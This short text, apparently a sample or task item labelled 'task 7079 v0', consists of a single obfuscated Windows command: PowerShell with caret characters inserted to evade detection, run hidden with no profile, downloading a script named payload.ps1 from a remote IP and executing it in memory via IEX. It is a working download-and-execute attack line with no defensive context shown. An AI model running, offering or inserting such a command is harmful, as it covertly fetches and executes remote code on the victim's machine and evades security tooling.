REM task 7079 v0
^po^w^e^r^she^l^l -nop -^w hi^d^de^n -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')"
